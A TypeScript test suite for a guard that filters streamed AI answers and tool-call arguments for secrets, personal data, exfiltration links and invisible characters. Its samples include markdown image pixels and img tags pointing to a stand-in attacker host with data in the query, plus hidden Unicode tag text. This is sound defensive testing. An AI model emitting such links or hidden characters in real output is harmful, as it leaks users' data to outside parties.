import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { ANSWER_ACTIONS, ANSWER_KINDS } from '#kernel/duties.ts'
import type { AnswerEvent } from '#protocols/answer-event.ts'
import {
  FINISH,
  guardedEvents,
  guardedText,
  IBAN,
  scanners,
  textOf,
  TOKEN,
} from './guard.fixture.ts'
import { guardAnswer } from './guard-answer.ts'
import { NO_ANSWER_DUTIES } from '#kernel/duties.ts'
import { questionOf } from './question.ts'

const PROSE = 'Le ciel était clair et la mer restait calme ce soir. '
const PIXEL = '![logo](https://attacker.test/p.png?d=revenue-of-march)'
const TAGS = Array.from('hidden', (one) =>
  String.fromCodePoint(0xe0000 + (one.codePointAt(0) ?? 0)),
).join('')
const SAMPLES = [
  `Le jeton est ${TOKEN}.`,
  `Compte ${IBAN}.`,
  'Écrire à jean.dupont@acme.fr.',
  '\nCONFIDENTIEL\n',
  PIXEL,
  '[voir ici](https://192.0.2.7/a)',
  '<img src="https://attacker.test/x.gif">',
  '[1]: https://attacker.test/?q=abc\n',
  `bonjour${TAGS} à tous`,
  'mot\u200B\u200Bcaché',
  '[un [lien] dans un texte](https://exemple.fr/page)',
  'https://exemple.fr/guide (voir www.exemple.fr).',
  '![',
  '<a href="',
  '](',
]

describe('an answer', () => {
  test('without anything to find goes on as it came', () => {
    const text = `${PROSE.repeat(30)}Voir https://docs.example.org/guide/start et [le guide](https://example.org/a-b).`
    const { text: shown, report } = guardedText(text, {
      duties: { links: 'refuse', secrets: 'refuse', personal: 'refuse', invisible: 'refuse' },
    })
    assert.equal(shown, text)
    assert.deepEqual(report, { found: {}, done: 'pass', isUnreadable: false })
  })

  test('has what is masked replaced by a mark in the language of the caller', () => {
    const text = `Le jeton est ${TOKEN}. Fin.`
    assert.equal(
      guardedText(text, { duties: { secrets: 'mask' } }).text,
      'Le jeton est [SECRET removed]. Fin.',
    )
    const french = guardedText(text, { duties: { secrets: 'mask' }, language: 'fr' })
    assert.equal(french.text, 'Le jeton est [SECRET retiré]. Fin.')
    assert.deepEqual(french.report.found, { secrets: 1 })
  })

  test('that is cut ends there, with a notice and as filtered', () => {
    const usage = {
      promptTokens: 1,
      completionTokens: 2,
      cachedTokens: null,
      cacheWriteTokens: null,
      reasoningTokens: null,
    }
    const { events, stopped } = guardedEvents(
      [[{ kind: 'text', text: `Avant. ${TOKEN} Après.` }], [FINISH, { kind: 'usage', usage }]],
      { duties: { secrets: 'cut' } },
    )
    assert.equal(stopped, null)
    assert.ok(textOf(events).startsWith('Avant. \n\n[The rest of this answer was taken out'))
    assert.ok(!textOf(events).includes('Après'))
    assert.deepEqual(
      events.filter(({ kind }) => kind !== 'text'),
      [
        { kind: 'finish', reason: 'content-filter', stopSequence: null },
        { kind: 'usage', usage },
      ],
    )
  })

  test('that is refused names the kind and the rule', () => {
    const { events, stopped } = guardedEvents(
      [[{ kind: 'text', text: `Avant. ${TOKEN}` }, FINISH]],
      { duties: { secrets: 'refuse' } },
    )
    assert.deepEqual(stopped, {
      code: 'answer-withheld',
      detail: { kind: 'secrets', rule: 'answers', decision: 'd1' },
    })
    assert.equal(textOf(events), 'Avant. ')
  })

  test('that passes is counted and stays as it is', () => {
    const text = `${TOKEN} ${PIXEL} ${PIXEL}`
    const shown = guardedText(text, {})
    assert.equal(shown.text, text)
    assert.deepEqual(shown.report, {
      found: { secrets: 1, links: 2 },
      done: 'pass',
      isUnreadable: false,
    })
  })

  test('may repeat the personal data of the question, and no other', () => {
    const duties = { personal: 'mask' } as const
    const text = `Écrire à jean.dupont@acme.fr ou au compte ${IBAN}.`
    assert.equal(
      guardedText(text, { duties, question: `jean.dupont@acme.fr, ${IBAN.replaceAll(' ', '')}` })
        .text,
      text,
    )
    assert.equal(
      guardedText(text, { duties, question: 'À qui écrire ? JEAN.DUPONT@ACME.FR ?' }).text,
      'Écrire à jean.dupont@acme.fr ou au compte [PERSONAL DATA removed].',
    )
    assert.equal(
      guardedText(text, { duties, question: 'xjean.dupont@acme.frx' }).text.includes('jean'),
      false,
    )
  })

  test('is the same in any pieces, with every action', () => {
    const actions = fc.constantFrom(...ANSWER_ACTIONS)
    const duties = fc.record(Object.fromEntries(ANSWER_KINDS.map((kind) => [kind, actions])))
    const prose = fc
      .integer({ min: 0, max: 700 })
      .map((length) => PROSE.repeat(14).slice(0, length))
    const text = fc
      .array(
        fc.oneof(fc.constantFrom(...SAMPLES), prose, fc.string({ unit: 'binary', maxLength: 20 })),
        { minLength: 1, maxLength: 6 },
      )
      .map((pieces) => pieces.join(' '))
    fc.assert(
      fc.property(
        text,
        duties,
        fc.integer({ min: 1, max: 60 }),
        fc.array(fc.nat(), { maxLength: 8 }),
        (whole, asked, size, places) => {
          const expected = guardedText(whole, { duties: asked, question: 'revenue' })
          const even = Array.from(
            { length: Math.floor(whole.length / size) },
            (_, i) => (i + 1) * size,
          )
          assert.deepEqual(
            guardedText(whole, { duties: asked, question: 'revenue' }, even),
            expected,
          )
          const odd = places.map((place) => place % whole.length).toSorted((a, b) => a - b)
          assert.deepEqual(
            guardedText(whole, { duties: asked, question: 'revenue' }, odd),
            expected,
          )
        },
      ),
      { numRuns: 300 },
    )
  })

  test('is the same when it is cut at every place of every sample', () => {
    const duties = {
      secrets: 'mask',
      personal: 'mask',
      markings: 'mask',
      links: 'mask',
      invisible: 'mask',
    } as const
    for (const sample of SAMPLES) {
      const whole = `${PROSE.repeat(3)}${sample} ${PROSE.repeat(3)}`
      const expected = guardedText(whole, { duties })
      const from = PROSE.length * 3
      for (let cut = from; cut <= from + sample.length; cut++)
        assert.deepEqual(guardedText(whole, { duties }, [cut]), expected)
    }
  })

  test('holds back a bounded stretch of clean prose, and nothing at its end', () => {
    const guard = guardAnswer({
      scanners,
      duties: { ...NO_ANSWER_DUTIES, secrets: 'mask' },
      hosts: [],
      question: questionOf(() => []),
      language: 'en',
      askedBy: {},
      decision: 'd1',
    })
    let [given, shown, most] = [0, 0, 0]
    const text = PROSE.repeat(200)
    for (let at = 0; at < text.length; at += 5) {
      const piece = text.slice(at, at + 5)
      given += piece.length
      shown += textOf(guard.step([{ kind: 'text', text: piece }]).events).length
      most = Math.max(most, given - shown)
    }
    assert.ok(most <= 256 + 512 + 80, `${most}`)
    assert.equal(shown + textOf(guard.step([FINISH]).events).length, text.length)
  })
})

describe('a tool call', () => {
  const call = (json: string, pieces = 1): AnswerEvent[] => [
    { kind: 'tool-call', index: 0, id: 'a', name: 'send' },
    ...Array.from({ length: pieces }, (_, i): AnswerEvent => {
      const size = Math.ceil(json.length / pieces)
      return { kind: 'tool-arguments', index: 0, piece: json.slice(i * size, (i + 1) * size) }
    }),
  ]
  const argumentsOf = (events: readonly AnswerEvent[]) =>
    events.map((event) => (event.kind === 'tool-arguments' ? event.piece : '')).join('')

  test('stays JSON when something is taken out of a string, and keeps everything else to the letter', () => {
    const json = `{ "to":"a\\u0062c", "big": 12345678901234567890, "text" : "Jeton:\\n${TOKEN} fin", "n": [1.50, true, null] }`
    for (const pieces of [1, 3, json.length]) {
      const { events } = guardedEvents([call(json, pieces), [FINISH]], {
        duties: { secrets: 'mask' },
      })
      assert.equal(
        argumentsOf(events),
        json.replace(`"Jeton:\\n${TOKEN} fin"`, '"Jeton:\\n[SECRET removed] fin"'),
      )
      JSON.parse(argumentsOf(events))
    }
  })

  test('with a number that is personal data has a text in its place', () => {
    const { events } = guardedEvents([call('{"credit_card": 4111111111111111}'), [FINISH]], {
      duties: { personal: 'mask' },
    })
    assert.deepEqual(JSON.parse(argumentsOf(events)), { credit_card: '[PERSONAL DATA removed]' })
  })

  test('is read as deep as JSON stands in its strings, escapes and all', () => {
    const pixel = '![x](https\\\\://attacker.test/p.png)'
    const escaped = TOKEN.replace('g', String.raw`\u0067`)
    const inner = `{"a": [{"b": "${escaped}"}], "c": 1.50, "d": "${pixel}"}`
    const json = JSON.stringify({ body: JSON.stringify([inner]), big: 1 })
    const { events, report } = guardedEvents([call(json), [FINISH]], {
      duties: { secrets: 'mask', links: 'mask' },
    })
    const { body } = JSON.parse(argumentsOf(events)) as { body: string }
    const [left] = JSON.parse(body) as [string]
    assert.match(
      left,
      /^\{"a": \[\{"b": "\[SECRET removed\]"\}\], "c": 1\.50, "d": "[^"]*\[LINK removed\]/,
    )
    assert.ok(!left.includes('attacker'))
    assert.deepEqual(report.found, { secrets: 1, links: 1 })

    let deep = JSON.stringify({ a: 'b' })
    for (let depth = 0; depth < 18; depth += 1)
      deep = JSON.stringify([deep.length < 1e6 ? deep : ''])
    const { stopped } = guardedEvents([call(deep), [FINISH]], { duties: { secrets: 'mask' } })
    assert.equal(stopped?.code ?? null, deep.length > 1e6 ? 'answer-withheld' : null)
  })

  test('that has the answer cut is not made', () => {
    const { events } = guardedEvents(
      [[{ kind: 'text', text: 'Voici.' }, ...call(`{"a":"${TOKEN}"}`)], [FINISH]],
      { duties: { secrets: 'cut' } },
    )
    assert.ok(events.every(({ kind }) => kind === 'text' || kind === 'finish'))
  })

  test('that is no JSON is looked through all the same', () => {
    const { events } = guardedEvents([call(`{"a": "${TOKEN}`), [FINISH]], {
      duties: { secrets: 'mask' },
    })
    assert.equal(argumentsOf(events), '{"a": "[SECRET removed]')
  })

  test('without a beginning is not let through', () => {
    const { stopped } = guardedEvents(
      [[{ kind: 'tool-arguments', index: 3, piece: '{}' }, FINISH]],
      { duties: { secrets: 'mask' } },
    )
    assert.equal(stopped?.code, 'answer-withheld')
  })
})

describe('the order', () => {
  test('of texts, thoughts and calls stays, and a thought that was changed loses its signature', () => {
    const events: AnswerEvent[] = [
      { kind: 'start', id: 'x', model: 'm', createdSeconds: null },
      { kind: 'reasoning', text: `Le jeton ${TOKEN}.` },
      { kind: 'reasoning-signature', signature: 'c2ln' },
      { kind: 'text', text: 'Voici.' },
      { kind: 'tool-call', index: 0, id: 'a', name: 'look' },
      { kind: 'tool-arguments', index: 0, piece: '{}' },
      { kind: 'text', text: 'Fin.' },
      FINISH,
    ]
    const kinds = (duties: object) =>
      guardedEvents(
        events.map((one) => [one]),
        { duties },
      ).events.map(({ kind }) => kind)
    assert.deepEqual(
      kinds({}),
      events.map(({ kind }) => kind),
    )
    assert.deepEqual(
      kinds({ secrets: 'mask' }),
      events.map(({ kind }) => kind).filter((kind) => kind !== 'reasoning-signature'),
    )
  })

  test('a scanner that throws lets nothing through', () => {
    const guard = guardAnswer({
      scanners: {
        ...scanners,
        stream: {
          ...scanners.stream,
          step: () => {
            throw new Error('x')
          },
        },
      },
      duties: { ...NO_ANSWER_DUTIES, links: 'mask' },
      hosts: [],
      question: questionOf(() => []),
      language: 'en',
      askedBy: { links: 'r' },
      decision: 'd1',
    })
    assert.deepEqual(guard.step([{ kind: 'text', text: 'abc' }]).events, [])
    const { events, stopped } = guard.step([FINISH])
    assert.deepEqual(
      [events, stopped],
      [[], { code: 'answer-withheld', detail: { kind: 'unreadable', rule: 'r', decision: 'd1' } }],
    )
    assert.equal(guard.report().isUnreadable, true)
  })
})
